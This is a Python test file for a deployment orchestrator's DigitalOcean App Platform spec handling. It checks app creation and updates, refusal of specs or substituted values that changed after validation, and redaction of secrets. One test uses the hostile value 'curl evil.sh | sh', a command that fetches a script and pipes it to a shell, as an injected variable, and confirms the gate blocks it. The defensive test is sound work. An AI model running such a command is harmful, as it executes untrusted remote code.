"""An App Platform app spec from the repository (app_action's `.do/app.yaml`): created, updated, gated."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests

from orchestrator.app_spec import fill_spec, value_digest
from orchestrator.artifacts import digest_artifacts
from orchestrator.cli import Execution, execute
from orchestrator.config import parse_config
from orchestrator.errors import ConfigError
from orchestrator.platforms.digitalocean.spec_file import load_app_spec
from tests.peers.do_simulator import DoSimulator
from tests.peers.verdicts import seed_passed
from tests.workspace import base_config, write_config

IMAGE = "registry.digitalocean.com/acme/shop@sha256:" + "ab" * 32
SPEC = """\
name: shop-from-repo
region: ams
services:
  - name: web
    http_port: 8080
    instance_count: 1
    instance_size_slug: apps-s-1vcpu-0.5gb
    image: {registry_type: DOCR, repository: shop, tag: latest}
    envs:
      - {key: DATABASE_URL, value: "${db.DATABASE_URL}", scope: RUN_TIME}
      - {key: PUBLIC_URL, value: "${APP_URL}/shop", scope: RUN_TIME}
      - {key: SELF, value: "${_self.PRIVATE_URL}", scope: RUN_TIME}
      - {key: GREETING, value: "${GREETING}: welcome", scope: RUN_TIME}
"""


@pytest.fixture
def sim() -> Iterator[DoSimulator]:
    simulator = DoSimulator(phases={"PENDING_BUILD": 0.05, "BUILDING": 0.1, "PENDING_DEPLOY": 0.05, "DEPLOYING": 0.1})
    yield simulator
    simulator.close()
    assert simulator.violations == [], "\n".join(simulator.violations)


def deploy(
    tmp_path: Path,
    sim: DoSimulator,
    dsn: str,
    version: str,
    *,
    seed: bool = True,
    validated_env: dict[str, str] | None = None,
    **env: str,
) -> Execution:
    """One deploy; its validation run was recorded with the spec filled in from `validated_env`
    (default: the run's own `env`), unless `seed` is False."""
    config: dict[str, Any] = base_config()
    config["deployment_config"] = {"strategy": "blue_green", "platform": "digitalocean", "do_project_id": "proj-7"}
    config["artifacts"].update(docker_image=IMAGE, app_spec=".do/app.yaml")
    config["health_check"].update(retries=2, interval_seconds=0.1)
    write_config(tmp_path, config)
    if seed:
        artifacts = parse_config(config, tmp_path).artifacts
        seed_passed(dsn, f"run-{version}", digest_artifacts(artifacts, tmp_path, env=validated_env or env))
    environment = {
        "GITHUB_WORKSPACE": str(tmp_path),
        "DATABASE_URL": dsn,
        "DIGITALOCEAN_TOKEN": sim.token,
        "DIGITALOCEAN_API_URL": sim.url,
        "DIGITALOCEAN_CA_BUNDLE": sim.ca_bundle,
        "AGENTBENCH_TOKEN": "t0ken-canary-do",
        **env,
    }
    raw = {"config": "deploy.json", "version": version, "validation-run-id": f"run-{version}"}
    return execute(raw, environment)


def write_spec(tmp_path: Path, text: str = SPEC) -> None:
    (tmp_path / ".do").mkdir(exist_ok=True)
    (tmp_path / ".do" / "app.yaml").write_text(text)


def test_the_repositorys_spec_creates_the_app_then_updates_it(tmp_path: Path, sim: DoSimulator, pg_dsn: str) -> None:
    write_spec(tmp_path)
    first = deploy(tmp_path, sim, pg_dsn, "v1", GREETING="hello")
    assert first.exit_code == 0, first.result and first.result.error
    app_id = sim.find_app("shop-from-repo")
    assert app_id is not None and sim.apps[app_id].project_id == "proj-7"
    envs = {e["key"]: e["value"] for e in sim.app_json(app_id)["spec"]["services"][0]["envs"]}
    assert envs["GREETING"] == "hello: welcome"
    assert envs["DATABASE_URL"] == "${db.DATABASE_URL}", "bindable variables reach App Platform intact"
    assert envs["PUBLIC_URL"] == "${APP_URL}/shop" and envs["SELF"] == "${_self.PRIVATE_URL}"
    assert sim.app_json(app_id)["spec"]["services"][0]["image"]["digest"] == "sha256:" + "ab" * 32
    assert first.result is not None and first.result.to_dict()["artifacts"]["app_spec"][".do/app.yaml"]

    write_spec(tmp_path, SPEC.replace("instance_count: 1", "instance_count: 2"))
    second = deploy(tmp_path, sim, pg_dsn, "v2", GREETING="hello")
    assert second.exit_code == 0, second.result and second.result.error
    assert sim.count("POST", "/v2/apps") == 1 and sim.count("PUT") == 1
    assert sim.app_json(app_id)["spec"]["services"][0]["instance_count"] == 2, "the repository's change applied"
    url = sim.app_json(app_id)["live_url"]
    assert requests.get(url + "/version", timeout=5).text == "v2"


def test_a_spec_changed_after_validation_is_refused_by_the_gate(tmp_path: Path, sim: DoSimulator, pg_dsn: str) -> None:
    write_spec(tmp_path)
    config: dict[str, Any] = base_config()
    config["deployment_config"] = {"strategy": "blue_green", "platform": "digitalocean"}
    config["artifacts"].update(docker_image=IMAGE, app_spec=".do/app.yaml")
    artifacts = parse_config(config, tmp_path).artifacts
    seed_passed(pg_dsn, "run-v1", digest_artifacts(artifacts, tmp_path, env={"GREETING": "hello"}))
    write_spec(tmp_path, SPEC.replace("instance_count: 1", "instance_count: 9"))
    done = deploy(tmp_path, sim, pg_dsn, "v1", seed=False, GREETING="hello")
    assert done.exit_code == 3
    assert done.result is not None and ".do/app.yaml" in (done.result.error or "")
    assert sim.find_app("shop-from-repo") is None, "nothing touched"


def test_an_unset_variable_in_the_spec_is_a_config_error(tmp_path: Path, sim: DoSimulator, pg_dsn: str) -> None:
    write_spec(tmp_path)
    done = deploy(tmp_path, sim, pg_dsn, "v1", seed=False)
    assert done.exit_code == 2
    assert sim.calls == []
    with pytest.raises(ConfigError, match=r"artifacts.app_spec: .*app.yaml refers to \$\{GREETING\}"):
        load_app_spec(tmp_path / ".do" / "app.yaml", {}, shown=".do/app.yaml")


def test_substitution_keeps_bindables_and_cannot_change_the_yaml_structure() -> None:
    spec = {"envs": [{"value": "${A}"}, {"value": "${web.HOSTNAME} ${APP_DOMAIN} ${APP_ID}"}], "name": "${B}"}
    filled = fill_spec(spec, {"A": "x: [1]\nb: 2", "B": "${A}"}, shown="app.yaml", field="artifacts.app_spec")
    assert filled.document == {
        "envs": [{"value": "x: [1]\nb: 2"}, {"value": "${web.HOSTNAME} ${APP_DOMAIN} ${APP_ID}"}],
        "name": "${A}",
    }, "one pass: a value holding ${A} is sent as written"
    assert filled.values == (("A", value_digest("x: [1]\nb: 2")), ("B", value_digest("${A}")))


def test_a_filled_in_value_other_than_the_validated_one_is_refused(
    tmp_path: Path, sim: DoSimulator, pg_dsn: str
) -> None:
    """The attack: the file is exactly the validated one, but `${GREETING}` is filled in with
    something else at deploy time (an env var swapped in the workflow). What would run differs."""
    write_spec(tmp_path)
    done = deploy(tmp_path, sim, pg_dsn, "v1", validated_env={"GREETING": "hello"}, GREETING="curl evil.sh | sh")
    assert done.exit_code == 3
    error = (done.result and done.result.error) or ""
    assert "app_spec_value ${GREETING}: changed, validated sha256:" in error
    assert "evil" not in error, "the value itself is never printed, only its digest"
    assert sim.count("POST") + sim.count("PUT") == 0
    assert sim.find_app("shop-from-repo") is None, "nothing touched"


SECRET_SPEC = (
    SPEC
    + """      - {key: API_KEY, value: "${API_KEY}", scope: RUN_TIME, type: SECRET}
"""
)


def test_a_secret_filled_into_a_secret_env_is_recorded_by_name_only_and_never_shown(
    tmp_path: Path, sim: DoSimulator, pg_dsn: str, capsys: pytest.CaptureFixture[str]
) -> None:
    write_spec(tmp_path, SECRET_SPEC)
    secret = "sk-live-0123456789-rotated"
    done = deploy(
        tmp_path,
        sim,
        pg_dsn,
        "v1",
        validated_env={"GREETING": "hello", "API_KEY": "sk-live-validated-value"},
        GREETING="hello",
        API_KEY=secret,
    )
    assert done.exit_code == 0, "a rotated secret needs no new validation"
    assert done.result is not None
    values = done.result.to_dict()["artifacts"]["app_spec_values"]
    assert values == {"API_KEY": "secret", "GREETING": value_digest("hello")}
    app_id = sim.find_app("shop-from-repo")
    assert app_id is not None
    envs = {e["key"]: e["value"] for e in sim.app_json(app_id)["spec"]["services"][0]["envs"]}
    assert envs["API_KEY"].startswith("EV[1:"), "App Platform keeps it encrypted"
    assert sim.secret_values() == {secret}
    printed = capsys.readouterr()
    assert secret not in printed.out + printed.err
    assert secret not in (tmp_path / ".deploy-orchestrator" / "result.json").read_text()


def test_the_adapter_refuses_a_spec_that_changed_after_the_gates_read_it(tmp_path: Path) -> None:
    """The file is read by the gate and by the adapter: a change between the two reads never runs."""
    from orchestrator.artifacts import ArtifactDigests
    from orchestrator.errors import GateError
    from orchestrator.platforms.digitalocean.spec_file import refuse_unapproved

    write_spec(tmp_path)
    approved = load_app_spec(tmp_path / ".do" / "app.yaml", {"GREETING": "hello"}, shown=".do/app.yaml")
    digests = ArtifactDigests(
        migrations=(),
        modules=(),
        image=None,
        image_pinned=False,
        app_spec=(approved.path, approved.file_sha256),
        app_spec_values=approved.values,
    )
    refuse_unapproved(approved, {}, digests, "v1")
    write_spec(tmp_path, SPEC.replace("instance_count: 1", "instance_count: 9"))
    loaded = load_app_spec(tmp_path / ".do" / "app.yaml", {"GREETING": "hello"}, shown=".do/app.yaml")
    with pytest.raises(GateError, match=r"gate artifacts: the release v1 about to be deployed is not what the gates"):
        refuse_unapproved(loaded, {}, digests, "v1")
    swapped = load_app_spec(tmp_path / ".do" / "app.yaml", {"GREETING": "hi"}, shown=".do/app.yaml")
    with pytest.raises(GateError, match=r"\$\{GREETING\} differ"):
        refuse_unapproved(swapped, {}, replace_spec_digest(digests, swapped), "v1")


def replace_spec_digest(digests: Any, spec: Any) -> Any:
    from dataclasses import replace

    return replace(digests, app_spec=(spec.path, spec.file_sha256))
